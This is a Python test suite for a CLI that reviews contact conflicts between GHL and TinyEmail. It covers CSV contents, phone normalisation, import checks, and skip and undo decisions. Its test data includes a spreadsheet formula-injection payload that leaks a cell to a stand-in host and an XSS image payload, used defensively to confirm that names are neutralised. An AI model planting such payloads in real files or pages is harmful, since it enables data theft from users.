"""Reviewing conflicts through the real CLI against both sandboxes (issue 16, items 1 and 2): conflicts.csv with
who and since when, values pasted back in any spelling (phones in the contact's own country), refusals that name
the check, `skip` for every row kind, a fix that its defect does not quarantine, `recon conflicts list|undo`.

The store's clock is injected (`Clock`), so first_seen and nights_open are exact; the review commands open the
store themselves, as a person's would, while the test's store stays open (as in test_decisions.py).
"""

from __future__ import annotations

import csv
import datetime as dt
import json
from collections.abc import Iterator
from dataclasses import dataclass
from pathlib import Path
from typing import Any

import polars as pl
import pytest
from typer.testing import CliRunner

from contact_recon.cli.main import app
from contact_recon.engine.conflicts import CSV_COLUMNS
from contact_recon.model.cells import unguard_row
from contact_recon.model.context import GHL_CONTACT_URL
from contact_recon.sandbox.fixture import validate_fixture
from contact_recon.sandbox.mutate import _clients
from contact_recon.store.db import open_db
from contact_recon.store.journal import Journal
from tests.support.servers import Sandboxes
from tests.support.worlds import RATE_SCALE, World, awkward_fixture, loose_policy, make_settings

FORMULA, HTML = '=HYPERLINK("http://evil.example/?leak="&B3,"Click")', "<img src=x onerror=alert(1)>[bold]"
UK_SAME, UK_OTHER, TE_BAD, UNSUB, GONE = "uk_same", "uk_other", "te_bad_phone", "unsubscribed", "deleted"


@dataclass
class Clock:
    """The store's clock, moved by the test."""

    now: dt.datetime

    def __call__(self) -> dt.datetime:
        return self.now


def review_fixture() -> tuple[dict[str, Any], dict[str, list[str]]]:
    """The awkward fixture plus people whose conflicts a data team reviews: a UK contact whose TinyEmail customer
    (no country of its own) writes the same number nationally, one with a different UK number, a TinyEmail
    phone that is not a phone, a TinyEmail unsubscribe, and a contact the test deletes in GHL later."""
    fixture, edited = awkward_fixture()
    taken = {*edited["renamed"], *edited["bad_phone"]}  # the blank-company people only differ in their company
    awkward = {e for emails in fixture["_meta"]["awkward"].values() for e in emails}
    customers = {c["email"]: c for c in fixture["tinyemail"]["customers"]}
    contacts = next(iter(fixture["ghl"]["locations"].values()))["contacts"]
    free = [c for c in contacts if c.get("email") in customers and c["email"] not in awkward
            and c["id"] not in taken and c["id"] not in awkward]
    uk_same, uk_other, te_bad, unsub, gone = free[:5]
    for contact, ghl_phone, te_phone in ((uk_same, "+447700900003", "07700 900003"),
                                         (uk_other, "+447700900123", "07700 900456")):
        contact["country"], contact["phone"] = "GB", ghl_phone
        customer = customers[contact["email"]]
        customer.pop("country", None)
        customer["phone"] = te_phone
    te_bad["phone"], customers[te_bad["email"]]["phone"] = "+14155550142", "call me maybe"
    uk_other["firstName"], uk_other["lastName"] = FORMULA, HTML  # from a web form
    customers[unsub["email"]]["status"] = "Unsubscribed"
    edited |= {UK_SAME: [uk_same["id"]], UK_OTHER: [uk_other["id"]], TE_BAD: [te_bad["id"]], UNSUB: [unsub["id"]],
               GONE: [gone["id"]]}
    return validate_fixture(fixture), edited


@pytest.fixture
def clock() -> Clock:
    today = dt.datetime.now(dt.UTC).date()
    return Clock(dt.datetime.combine(today - dt.timedelta(days=2), dt.time(12, 0), dt.UTC))


@pytest.fixture
def world(sandboxes: Sandboxes, tmp_path: Path, clock: Clock) -> Iterator[World]:
    fixture, edited = review_fixture()
    ghl, te = sandboxes(fixture, rate_scale=RATE_SCALE)
    settings = make_settings(ghl, te, fixture, tmp_path / "data")
    with open_db(settings.data_dir / "recon.duckdb", clock=clock) as store:
        yield World(fixture, ghl, te, settings, store, policy=loose_policy(tmp_path), edited=edited)


def one(w: World, name: str) -> str:
    return w.edited[name][0]


def rows_of(path: Path) -> list[dict[str, str]]:
    with path.open(newline="", encoding="utf-8") as handle:
        return list(csv.DictReader(handle))


def by_conflict(path: Path) -> dict[tuple[str, str], dict[str, str]]:
    """The rows by (key, field), their cells as the systems hold them (a phone's `+` is quoted in the file)."""
    return {(r["key"], r["field"]): unguard_row(r) for r in rows_of(path)}


def decided(path: Path, conflicts: Path, answers: dict[tuple[str, str], tuple[str, str]],
            extra: list[dict[str, str]] = ()) -> Path:
    """conflicts.csv as a person fills it in: `answers` (key, field) -> (decision, value); `extra` rows added."""
    rows = rows_of(conflicts)
    with path.open("w", newline="", encoding="utf-8") as handle:
        writer = csv.DictWriter(handle, list(CSV_COLUMNS))
        writer.writeheader()
        for row in rows:
            decision, value = answers.get((row["key"], row["field"]), ("", ""))
            writer.writerow({**row, "decision": decision, "value": value})
        for row in extra:
            writer.writerow({**dict.fromkeys(CSV_COLUMNS, ""), **row})
    return path


def recon(w: World, monkeypatch: pytest.MonkeyPatch, *args: str, columns: str = "250") -> Any:
    for name, value in {**w.env(), "COLUMNS": columns}.items():
        monkeypatch.setenv(name, value)
    return CliRunner().invoke(app, list(args))


def listed(w: World, monkeypatch: pytest.MonkeyPatch) -> dict[tuple[str, str | None], dict[str, Any]]:
    result = recon(w, monkeypatch, "conflicts", "list", "--json")
    assert result.exit_code == 0, result.output
    return {(r["key"], r["field"]): r for r in json.loads(result.output)}


def decisions(w: World) -> list[tuple[str, str, str, str | None]]:
    return [tuple(r) for r in w.store.con.execute(
        "SELECT key, field, choice, value FROM conflict_decisions ORDER BY key, field").fetchall()]


# ------------------------------------------------------------------------------------------ the file


def test_conflicts_csv_names_the_person_and_counts_the_nights_a_conflict_is_open(
        world: World, clock: Clock, tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    first = world.plan()
    assert list(rows_of(first.conflicts_path)[0]) == list(CSV_COLUMNS)
    renamed = sorted(world.edited["renamed"])
    row = by_conflict(first.conflicts_path)[(renamed[0], "first_name")]
    contact = next(c for c in next(iter(world.fixture["ghl"]["locations"].values()))["contacts"]
                   if c["id"] == renamed[0])
    assert row["email"] == contact["email"].lower() and row["location_id"] == world.location
    assert row["name"] == f"{contact['firstName']} {contact['lastName']}"
    assert row["ghl_url"] == GHL_CONTACT_URL.format(location_id=world.location, contact_id=renamed[0])
    assert (row["tinyemail"], row["reason"]) == ("Renamed", "initial_conflict")
    assert row["first_seen"] == clock.now.strftime("%Y-%m-%dT%H:%M:%SZ") and row["nights_open"] == "0"
    assert (row["decision"], row["value"], row["note"]) == ("", "", "")

    # the same UK number written nationally on TinyEmail (no country of its own) and in E.164 on GHL: no conflict,
    # and the TinyEmail record passes phone_e164 (read in the contact's country, GB)
    keys = {key for key, _ in by_conflict(first.conflicts_path)}
    assert one(world, UK_SAME) not in keys
    other = by_conflict(first.conflicts_path)[(one(world, UK_OTHER), "phone")]
    # each side as the system holds it: TinyEmail's national spelling, GHL's E.164
    assert (other["tinyemail"], other["ghl"]) == ("07700 900456", "+447700900123")
    assert one(world, UK_SAME) not in first.checks.quarantined_keys().get("ghl_contacts.phone_e164", set())
    quarantined_te = first.checks.quarantined.filter(pl.col("expectation") == "phone_e164")["email"].to_list()
    uk_emails = {r["email"] for r in rows_of(first.conflicts_path) if r["key"] == one(world, UK_OTHER)}
    assert not uk_emails & set(quarantined_te)

    # a name from a web form: inert in the file, read back as it was, shown as plain text
    cell = next(r for r in rows_of(first.conflicts_path) if r["key"] == one(world, UK_OTHER))["name"]
    assert cell == f"'{FORMULA} {HTML}" and other["name"] == f"{FORMULA} {HTML}"
    assert listed(world, monkeypatch)[(one(world, UK_OTHER), "phone")]["name"] == f"{FORMULA} {HTML}"
    table = recon(world, monkeypatch, "conflicts", "list", columns="3000")  # one line per row: no folding
    assert table.exit_code == 0 and f"{FORMULA} {HTML}" in table.output  # never read as markup

    # the next day, late at night: the conflict is one night old and keeps its first_seen
    clock.now += dt.timedelta(days=1, hours=11, minutes=30)
    second = world.plan(reuse_snapshot=True)
    again = by_conflict(second.conflicts_path)[(renamed[0], "first_name")]
    assert again["first_seen"] == row["first_seen"] and again["nights_open"] == "1"

    # `recon conflicts list` counts by today's date (two days after the first night)
    shown = listed(world, monkeypatch)[(renamed[0], "first_name")]
    assert shown["first_seen"] == row["first_seen"] and shown["nights_open"] == 2
    assert shown["email"] == row["email"] and shown["ghl_url"] == row["ghl_url"] and shown["decision"] is None

    # decided: pending in the list; settled by the next plan, it is no longer open
    path = decided(tmp_path / "d.csv", second.conflicts_path, {(renamed[0], "first_name"): ("ghl", "")})
    assert recon(world, monkeypatch, "conflicts", "import", str(path)).exit_code == 0
    assert listed(world, monkeypatch)[(renamed[0], "first_name")]["decision"] == "ghl"
    table = recon(world, monkeypatch, "conflicts", "list")
    assert table.exit_code == 0 and "1 with a pending decision" in table.output and renamed[0] in table.output
    third = world.plan(reuse_snapshot=True)
    assert (renamed[0], "first_name") not in by_conflict(third.conflicts_path)
    assert (renamed[0], "first_name") not in listed(world, monkeypatch)
    assert (renamed[1], "first_name") in listed(world, monkeypatch)


# ---------------------------------------------------------------------------------- values pasted back


def test_phones_pasted_back_in_any_format_are_read_in_the_contacts_country(
        world: World, tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    result = world.plan()
    uk = one(world, UK_OTHER)
    for spelling in ("07700 900777", "+44 7700 900777", "0044 7700 900777", " +447700900777 "):
        path = decided(tmp_path / "d.csv", result.conflicts_path, {(uk, "phone"): ("value", spelling)})
        imported = recon(world, monkeypatch, "conflicts", "import", str(path))
        assert imported.exit_code == 0, imported.output
        assert decisions(world) == [(uk, "phone", "value", "+447700900777")], spelling
    # the values shown in the row, pasted back as they are: TinyEmail's national spelling (read in the
    # contact's country), and GHL's E.164 (quoted in the file: it begins with `+`)
    row = next(r for r in rows_of(result.conflicts_path) if (r["key"], r["field"]) == (uk, "phone"))
    assert (row["tinyemail"], row["ghl"]) == ("07700 900456", "'+447700900123")
    for shown, e164 in ((row["tinyemail"], "+447700900456"), (row["ghl"], "+447700900123")):
        path = decided(tmp_path / "d.csv", result.conflicts_path, {(uk, "phone"): ("value", shown)})
        assert recon(world, monkeypatch, "conflicts", "import", str(path)).exit_code == 0
        assert decisions(world) == [(uk, "phone", "value", e164)]


def test_a_value_that_would_fail_a_check_is_refused_at_import_with_the_check_named(
        world: World, tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    result = world.plan()
    uk, bad_ghl = one(world, UK_OTHER), world.edited["bad_phone"][0]
    path = decided(tmp_path / "bad.csv", result.conflicts_path,
                   {(uk, "phone"): ("value", "12"), (bad_ghl, "phone"): ("ghl", "")})
    line_of = {(r["key"], r["field"]): i for i, r in enumerate(rows_of(path), start=2)}

    refused = recon(world, monkeypatch, "conflicts", "import", str(path))
    out = " ".join(refused.output.split())
    assert refused.exit_code == 1 and "nothing imported, 2 problem(s)" in out, out
    assert (f"line {line_of[(uk, 'phone')]}: phone '12' is not a phone number: it fails "
            f"ghl_contacts.phone_e164, te_customers.phone_e164") in out
    assert (f"line {line_of[(bad_ghl, 'phone')]}: decision 'ghl' would write phone 'call me maybe' to tinyemail, "
            f"which fails te_customers.phone_e164") in out
    assert decisions(world) == []


def test_deciding_ghl_fixes_a_bad_tinyemail_phone_and_the_fix_is_not_quarantined(
        world: World, tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    key = one(world, TE_BAD)
    contact = next(c for c in next(iter(world.fixture["ghl"]["locations"].values()))["contacts"] if c["id"] == key)
    first = world.plan()
    row = by_conflict(first.conflicts_path)[(key, "phone")]
    assert (row["tinyemail"], row["ghl"]) == ("call me maybe", contact["phone"])
    path = decided(tmp_path / "d.csv", first.conflicts_path, {(key, "phone"): ("ghl", "")})
    assert recon(world, monkeypatch, "conflicts", "import", str(path)).exit_code == 0

    outcome = world.reconcile()
    plan = pl.read_parquet(first.plan_path.parent.parent / outcome.run_id / "plan.parquet")
    fix = plan.filter((pl.col("key") == key) & (pl.col("reason") == "decided_ghl")).to_dicts()
    assert [(f["target"], f["field"], f["expected"], f["new"], f["status"]) for f in fix] == [
        ("tinyemail", "phone", "call me maybe", contact["phone"], "planned")]
    # the person's other ops are still held by the defect
    others = plan.filter((pl.col("key") == key) & (pl.col("reason") != "decided_ghl"))
    assert others.height and set(others["status"]) == {"quarantined"}
    customer = next(c for c in world.state(world.te)["customers"] if c["email"].lower() == contact["email"].lower())
    assert customer["phone"] == contact["phone"]
    after = world.plan()
    assert (key, "phone") not in by_conflict(after.conflicts_path)


def test_a_decided_phone_lands_on_a_customer_that_writes_its_number_nationally(
        world: World, tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    # TinyEmail holds "07700 900456" with no country: the plan reads it in the contact's country (GB), and the
    # writer's check of the live record must read it so too, or the op is closed stale every night
    uk = one(world, UK_OTHER)
    contact = next(c for c in next(iter(world.fixture["ghl"]["locations"].values()))["contacts"] if c["id"] == uk)
    first = world.plan()
    path = decided(tmp_path / "d.csv", first.conflicts_path, {(uk, "phone"): ("ghl", "")})
    assert recon(world, monkeypatch, "conflicts", "import", str(path)).exit_code == 0
    outcome = world.reconcile()
    assert outcome.status == "completed", outcome.error
    fix = Journal(world.store).frame(outcome.run_id).filter(
        (pl.col("key") == uk) & (pl.col("field") == "phone")).to_dicts()
    assert [(f["target"], f["expected"], f["new"], f["status"]) for f in fix] == [
        ("tinyemail", "+447700900456", "+447700900123", "done")]
    customer = next(c for c in world.state(world.te)["customers"] if c["email"].lower() == contact["email"].lower())
    assert customer["phone"] == "+447700900123"


# ------------------------------------------------------------------------------------- skip, every kind


def test_skip_acknowledges_a_deletion_and_a_consent_loosening_until_they_change(
        world: World, clock: Clock, tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    world.reconcile()  # the base: everyone on both sides, the unsubscribe copied to GHL as DND
    gone, unsub = one(world, GONE), one(world, UNSUB)
    emails = {c["id"]: c.get("email") for c in next(iter(world.fixture["ghl"]["locations"].values()))["contacts"]}
    ghl, te = _clients(world.ghl.base_url, world.te.base_url + "/v1", world.fixture["ghl"]["tokens"][0]["token"],
                       world.fixture["tinyemail"]["apiKeys"][0], None)
    with ghl, te:
        ghl.delete(f"/contacts/{gone}").raise_for_status()
        te.put("/account/customer", json={"updateMembers": [{"email": emails[unsub], "status": "Subscribed"}]}
               ).raise_for_status()
        clock.now += dt.timedelta(days=1)
        first = world.plan()
        rows = by_conflict(first.conflicts_path)
        assert rows[(gone, "")]["reason"] == "deleted_in_ghl" and rows[(gone, "")]["email"] == emails[gone].lower()
        assert rows[(unsub, "consent")]["reason"] == "consent_loosened_on_tinyemail"

        path = decided(tmp_path / "d.csv", first.conflicts_path,
                       {(gone, ""): ("skip", ""), (unsub, "consent"): ("Skip", "")})
        imported = recon(world, monkeypatch, "conflicts", "import", str(path))
        assert imported.exit_code == 0 and "imported 2 decision(s)" in imported.output, imported.output
        assert ("", "consent") == tuple(sorted(f for k, f, _, _ in decisions(world)))

        clock.now += dt.timedelta(days=1)
        second = world.plan()
        keys = set(by_conflict(second.conflicts_path))
        assert (gone, "") not in keys and (unsub, "consent") not in keys
        assert (gone, None) not in listed(world, monkeypatch)

        # GHL loosens too: the consent conflict changed (loosened on both), so it is reported again
        ghl.put(f"/contacts/{unsub}", json={"dnd": False, "dndSettings": {"Email": {"status": "inactive"}}}
                ).raise_for_status()
        third = world.plan()
        rows = by_conflict(third.conflicts_path)
        assert rows[(unsub, "consent")]["reason"] == "consent_loosened_on_both"
        assert (gone, "") not in rows

    # undone: the deletion is reported again by the next run
    undone = recon(world, monkeypatch, "conflicts", "undo", gone, "-")
    assert undone.exit_code == 0 and "reports the conflict again" in undone.output, undone.output
    assert recon(world, monkeypatch, "conflicts", "undo", gone, "-").exit_code == 1  # nothing left to undo
    fourth = world.plan(reuse_snapshot=True)
    assert by_conflict(fourth.conflicts_path)[(gone, "")]["reason"] == "deleted_in_ghl"
    assert (gone, None) in listed(world, monkeypatch)


@pytest.mark.parametrize("args", [("conflicts", "list"), ("conflicts", "list", "--json"),
                                  ("conflicts", "undo", "c1", "phone")])
def test_the_conflict_commands_say_store_busy_while_a_run_holds_the_store(
        tmp_path: Path, monkeypatch: pytest.MonkeyPatch, args: tuple[str, ...]) -> None:
    from contact_recon.cli import report as review
    from contact_recon.store.db import db_path
    from tests.e2e.test_store_busy import hold, release

    monkeypatch.setenv("RECON_DATA_DIR", str(tmp_path))
    with open_db(db_path(tmp_path)):
        pass
    holder = hold(db_path(tmp_path), 30)
    try:
        monkeypatch.setattr(review, "REVIEW_WAIT_S", 0.5)
        busy = CliRunner().invoke(app, list(args))
        assert busy.exit_code == 1 and "store busy" in busy.output and "Traceback" not in busy.output, busy.output
    finally:
        release(holder)
    answered = CliRunner().invoke(app, list(args))
    assert answered.exit_code == (1 if "undo" in args else 0), answered.output
    assert "store busy" not in answered.output
    assert ("[]" if "--json" in args else "no open conflicts" if "list" in args else "nothing to undo") in \
        answered.output
